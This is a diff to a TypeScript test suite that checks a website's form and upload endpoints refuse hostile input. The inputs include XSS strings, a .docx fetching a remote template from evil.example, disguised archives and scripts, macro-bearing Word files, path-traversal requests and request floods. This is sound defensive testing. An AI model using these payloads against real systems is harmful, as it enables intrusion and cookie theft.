@@ -6,11 +6,13 @@
  */
 import { createHash } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
+import net from 'node:net';
 import path from 'node:path';
 import { Readable } from 'node:stream';
+import CFB from 'cfb';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { MAX_FILE_BYTES } from '../../src/lib/forms/limits.mjs';
-import { DOCX_MAIN, EXE_HEAD, formParts, zipBytes, listDir, Multipart, pdf, PNG_HEAD, post, startServer, type Answer, type FilePart, type Part, type Server } from './harness';
+import { DOCX_MAIN, docxFile, EXE_HEAD, formParts, zipBytes, listDir, Multipart, pdf, PNG_HEAD, post, startServer, type Answer, type FilePart, type Part, type Server } from './harness';
 import { application, enquiry } from './suite';
 
 const MB = 1024 * 1024;
@@ -67,6 +69,29 @@ const raw = (route: string, body: Buffer | string, contentType: string | undefin
 const bare = (method: string, p: string, headers: Record<string, string> = {}) => () => post(url(p), { method, body: Buffer.alloc(0), address: '', headers });
 
 const asFile = (name: string, bytes: Buffer): FilePart => ({ name, size: bytes.length, head: bytes });
+/** A well-formed .docx's entries (harness.docxFile), to add something hostile to. */
+async function docxEntries() {
+  const { default: yauzl } = await import('yauzl');
+  const bytes = (await docxFile('x.docx')).head as Buffer;
+  const zip = await new Promise<import('yauzl').ZipFile>((resolve, reject) => yauzl.fromBuffer(bytes, { lazyEntries: true }, (e, z) => (e || !z ? reject(e) : resolve(z))));
+  const entries: { name: string; data: Buffer }[] = [];
+  await new Promise<void>((resolve, reject) => {
+    zip.on('entry', (entry: import('yauzl').Entry) =>
+      zip.openReadStream(entry, (err, stream) => {
+        if (err || !stream) return reject(err);
+        const chunks: Buffer[] = [];
+        stream.on('data', (c: Buffer) => chunks.push(c)).on('end', () => {
+          entries.push({ name: entry.fileName, data: Buffer.concat(chunks) });
+          zip.readEntry();
+        });
+      }),
+    );
+    zip.on('end', () => resolve());
+    zip.readEntry();
+  });
+  return entries;
+}
+
 const CONTENT_TYPES = `<Types><Override PartName="/word/document.xml" ContentType="${DOCX_MAIN}"/></Types>`;
 
 describe('malformed multipart bodies', () => {
@@ -134,7 +159,7 @@ describe('fields', () => {
   it.each(oneLine)('an escape sequence in %s (%s) is refused with the field’s message', async (field, route, fields, label) => {
     const value = field === 'email' ? 'sam\x1b[2J@acme.test' : field === 'budget' ? '1\x1b[2J' : `${fields[field] || 'x'}\x1b[2J`.slice(-18);
     const files = route === '/api/submit' ? [pdf('cv.pdf', 1000)] : [];
-    await refused(form(route, { ...fields, [field]: value }, files), 422, { fields: { [field]: `${label} cannot contain control or text-direction characters` } });
+    await refused(form(route, { ...fields, [field]: value }, files), 422, { fields: { [field]: `${label} cannot contain control, invisible or text-direction characters` } });
   });
   it.each([
     ['a right-to-left override', 'Sam\u202Eevil'],
@@ -144,15 +169,21 @@ describe('fields', () => {
     ['a forged line', 'Sam\nemail: x@y.z'],
     ['a NUL', 'Sam\u0000'],
   ])('%s in a name is refused', (_, name) =>
-    refused(form('/api/contact', { ...enquiry, name }), 422, { fields: { name: 'Name cannot contain control or text-direction characters' } }),
+    refused(form('/api/contact', { ...enquiry, name }), 422, { fields: { name: 'Name cannot contain control, invisible or text-direction characters' } }),
   );
+  it('invisible characters are refused, and a required field of invisible characters alone is empty', async () => {
+    await refused(form('/api/contact', { ...enquiry, budget: '\u200b' }), 422, { fields: { budget: 'Please enter your budget' } });
+    await refused(form('/api/contact', { ...enquiry, budget: '\u200d' }), 422, { fields: { budget: 'Please enter your budget' } });
+    await refused(form('/api/contact', { ...enquiry, name: 'Sam\u200fLee' }), 422, { fields: { name: 'Name cannot contain control, invisible or text-direction characters' } });
+  });
+
   it('the phone and date fields refuse controls through their formats', async () => {
     await refused(form('/api/contact', { ...enquiry, phone: '123\x1b[2J' }), 422, { fields: { phone: 'Invalid phone number format' } });
     await refused(form('/api/submit', { ...application, startDate: '01-09-2026\x07' }, [pdf('cv.pdf', 1000)]), 422);
   });
   it('links refuse controls', () =>
     refused(form('/api/submit', { ...application, portfolio: 'https://ayesha.dev/\x1b[2J' }, [pdf('cv.pdf', 1000)]), 422, {
-      fields: { portfolio: 'Portfolio link cannot contain control or text-direction characters' },
+      fields: { portfolio: 'Portfolio link cannot contain control, invisible or text-direction characters' },
     }),
   );
 });
@@ -179,6 +210,12 @@ describe('files', () => {
     ['HTML named .txt', { name: 'cover.txt', size: 60, head: Buffer.from('<!DOCTYPE html><script>alert(document.cookie)</script>') }],
     ['SVG named .png', { name: 'logo.png', size: 70, head: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>') }],
     ['text with an escape sequence', { name: 'cv.txt', size: 20, head: Buffer.from('Hello\x1b[2J\x1b[31mworld') }],
+    ['text with an escape sequence after 70 KB of letters', asFile('notes.txt', Buffer.concat([Buffer.alloc(70_000, 'a'), Buffer.from('\x1b[2J\x1b]0;pwned\x07')]))],
+    ['text with a C1 control (CSI) after 40 KB', asFile('notes.txt', Buffer.concat([Buffer.alloc(40_000, 'b'), Buffer.from('x\u009b2J', 'utf8')]))],
+    ['text with a bidi override', asFile('report.txt', Buffer.from('Invoice for report\u202eexe.txt', 'utf8'))],
+    ['text that turns into a web page', asFile('letter.txt', Buffer.from('Dear team,\nplease see below.\n<img src=x onerror=alert(1)>'))],
+    ['text cut in the middle of a character', asFile('letter.txt', Buffer.from([0x61, 0x62, 0xe2, 0x82]))],
+    ['RTF embedding an object', asFile('cv.rtf', Buffer.from('{\\rtf1\\ansi Hello {\\object\\objemb{\\*\\objdata 0105000002000000}}}'))],
     ['an empty file', { name: 'empty.pdf', size: 0 }],
   ];
   it.each(forged)('%s: 415', (_, file) => refused(form('/api/submit', application, [file]), 415, /not an accepted file type/));
@@ -190,6 +227,24 @@ describe('files', () => {
     ['a .docx with macros', () => zipBytes([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/document.xml', data: '<w:document/>' }, { name: 'word/vbaProject.bin', data: 'x' }])],
     ['a .docx whose main part is missing', () => zipBytes([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: 'word/other.xml', data: '<w:document/>' }])],
     ['an .odt with the wrong mimetype', () => zipBytes([{ name: 'mimetype', data: 'application/x-msdownload', store: true }, { name: 'content.xml', data: '<x/>' }])],
+    [
+      'a ZIP whose content types are only a comment',
+      () =>
+        zipBytes([
+          { name: '[Content_Types].xml', data: `<!-- ${CONTENT_TYPES} -->` },
+          { name: 'word/document.xml', data: '<html><script>alert(1)</script></html>' },
+        ]),
+    ],
+    [
+      'a .docx fetching a remote template',
+      async () =>
+        zipBytes([
+          ...(await docxEntries()),
+          { name: 'word/_rels/settings.xml.rels', data: '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>' },
+        ]),
+    ],
+    ['a .docx holding another archive', async () => zipBytes([...(await docxEntries()), { name: 'word/media/image1.png', data: Buffer.from('PK\x03\x04 evil.exe', 'latin1') }])],
+    ['a .docx hiding a script behind a trailing dot', async () => zipBytes([...(await docxEntries()), { name: 'word/evil.vbs.', data: 'MsgBox 1' }])],
     [
       'a zip bomb',
       () =>
@@ -213,9 +268,25 @@ describe('files', () => {
   });
 });
 
+describe('old Word files', () => {
+  const ole = (streams: Record<string, string>) => {
+    const container = CFB.utils.cfb_new();
+    for (const [name, data] of Object.entries(streams)) CFB.utils.cfb_add(container, `/${name}`, Buffer.from(data));
+    return CFB.write(container, { type: 'buffer' }) as Buffer;
+  };
+  it.each([
+    ['an installer (an OLE file that is no Word document)', 'setup.doc', { SummaryInformation: 'x', '!_StringData': 'msi' }],
+    ['a spreadsheet named .doc', 'book.doc', { Workbook: 'x' }],
+    ['a Word file with macros', 'cv.doc', { WordDocument: 'w', 'Macros/VBA/dir': 'x' }],
+  ])('%s: 415', async (_, name, streams) => {
+    await refused(form('/api/contact', enquiry, [asFile(name, ole(streams))]), 415, /not an accepted file type/);
+  });
+});
+
 describe('origins', () => {
   it.each<[string, Record<string, string>]>([
     ['another site', { origin: 'https://evil.example' }],
+    ['another port on this machine (without SITE_URL only this server\'s own origins pass)', { origin: 'http://localhost:3000' }],
     ['an opaque origin', { origin: 'null' }],
     ['a malformed origin', { origin: 'http://' }],
     // What a browser sends for a look-alike host: its punycode.
@@ -279,6 +350,93 @@ describe('addresses', () => {
   it('headers over 16 KB: 431', () => refused(bare('GET', '/', { cookie: 'c'.repeat(20_000) }), 431));
 });
 
+/** One raw exchange on a fresh connection: what the server answered, and whether it closed the connection. */
+function rawExchange(request: string | Buffer, waitMs = 3_000): Promise<{ text: string; closed: boolean }> {
+  return new Promise((resolve) => {
+    const socket = net.connect({ host: '127.0.0.1', port: server.port });
+    let text = '';
+    let done = false;
+    const finish = (closed: boolean) => {
+      if (done) return;
+      done = true;
+      socket.destroy();
+      resolve({ text, closed });
+    };
+    socket.on('data', (d) => (text += d.toString('latin1')));
+    socket.on('close', () => finish(true));
+    socket.on('error', () => finish(true));
+    socket.on('connect', () => socket.write(request));
+    setTimeout(() => finish(false), waitMs);
+  });
+}
+const statusOf = (text: string) => Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0);
+
+describe('the edge', () => {
+  it('a page reached through dot segments is still a page: 405 for POST, never Next\'s page or action code', async () => {
+    for (const target of ['/api/../about', '/api/%2e%2e/careers', '/api/./../work']) {
+      const { text } = await rawExchange(`POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nNext-Action: 7f00\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]`);
+      expect(statusOf(text), target).toBe(405);
+      expect(text).toMatch(/\r\nallow: GET, HEAD\r\n/i);
+      expect(text).toMatch(/X-Frame-Options: DENY/i);
+    }
+    expect(server.output()).not.toMatch(/Server Action|Server Reference/);
+  });
+
+  it('a forged server-action header on a page changes nothing', async () => {
+    const a = await refusal(bare('GET', '/about', { 'next-action': '7f0000000000000000000000000000000000000000' }), 200);
+    expect(a.body).toContain('<html');
+    expect(server.output()).not.toMatch(/Server Action|Server Reference/);
+  });
+
+  it('a client that pipelines dozens of requests on one connection is cut off, and others are served meanwhile', async () => {
+    const flood = rawExchange(Buffer.from('GET /careers HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(200)), 10_000);
+    const other = await refusal(bare('GET', '/robots.txt'), 200);
+    expect(other.body).toContain('Sitemap');
+    const { text, closed } = await flood;
+    expect(closed).toBe(true);
+    expect((text.match(/HTTP\/1\.1 200/g) ?? []).length).toBeLessThanOrEqual(4);
+  });
+
+  it.each(['/_next/webpack-hmr', '/_next/static/x', '/nonexistent'])('a WebSocket upgrade to %s is answered at once, not held open', async (target) => {
+    const { text, closed } = await rawExchange(
+      `GET ${target} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
+    );
+    expect(statusOf(text)).toBe(404);
+    expect(text).toMatch(/X-Content-Type-Options: nosniff/i);
+    expect(closed || text.length > 0).toBe(true);
+  });
+
+  it('an upgrade to a malformed address gets 400', async () => {
+    const { text } = await rawExchange('GET /work/%E0%A4%A HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n');
+    expect(statusOf(text)).toBe(400);
+    expect(server.output()).not.toMatch(/Error handling upgrade/);
+  });
+
+  it('a request without Host gets 400, and an unknown Expect 417, both with the security headers', async () => {
+    const noHost = await rawExchange('GET / HTTP/1.1\r\nConnection: close\r\n\r\n');
+    expect(statusOf(noHost.text)).toBe(400);
+    expect(noHost.text).toMatch(/Strict-Transport-Security/i);
+    const expectation = await rawExchange('POST /api/contact HTTP/1.1\r\nHost: x\r\nExpect: foo\r\nContent-Length: 3\r\nConnection: close\r\n\r\nx=1');
+    expect(statusOf(expectation.text)).toBe(417);
+    expect(expectation.text).toMatch(/Strict-Transport-Security/i);
+  });
+
+  it.each<[string, Record<string, string>]>([
+    ['a malformed range', { range: 'bytes=abc' }],
+    ['a range past the end', { range: 'bytes=99999999999-' }],
+    ['a backwards range', { range: 'bytes=5-1' }],
+    ['a failed If-Match', { 'if-match': '"nope"' }],
+    ['a past If-Unmodified-Since', { 'if-unmodified-since': 'Mon, 01 Jan 1990 00:00:00 GMT' }],
+  ])('a static file with %s is served whole, never a 500', async (_, headers) => {
+    for (const p of ['/media/video/flow/poster.webp', '/media/video/flow/original.mp4']) await refused(bare('GET', p, headers), 200);
+  });
+
+  it('a satisfiable range of a static file is still served as a range', async () => {
+    const a = await refusal(bare('GET', '/media/video/flow/original.mp4', { range: 'bytes=0-99' }), 206);
+    expect(a.headers['content-range']).toMatch(/^bytes 0-99\//);
+  });
+});
+
 describe('JSON bodies (the pricing request)', () => {
   const good = { name: 'Sam Lee', email: 'sam@acme.test', services: [] as unknown[] };
   it.each<[string, () => Promise<Answer | 'aborted'>, number]>([
@@ -324,8 +482,9 @@ describe('hostile names on real files are neutralised, and the files kept', () =
 describe('the end of the corpus', () => {
   it('kept exactly what was accepted: rows, files and mail', async () => {
     const mail = async () => (await listDir(dirs().mail)).filter((n) => n.endsWith('.eml'));
-    for (let i = 0; i < 100 && (await mail()).length < accepted.length; i++) await new Promise((r) => setTimeout(r, 100));
-    expect((await mail()).length).toBe(accepted.length);
+    // Each accepted submission: the staff e-mail and the sender's acknowledgement.
+    for (let i = 0; i < 100 && (await mail()).length < 2 * accepted.length; i++) await new Promise((r) => setTimeout(r, 100));
+    expect((await mail()).length).toBe(2 * accepted.length);
     expect(await listDir(dirs().uploads)).toEqual([...accepted].sort());
     await server.stop();
     const { PGlite } = await import('@electric-sql/pglite');
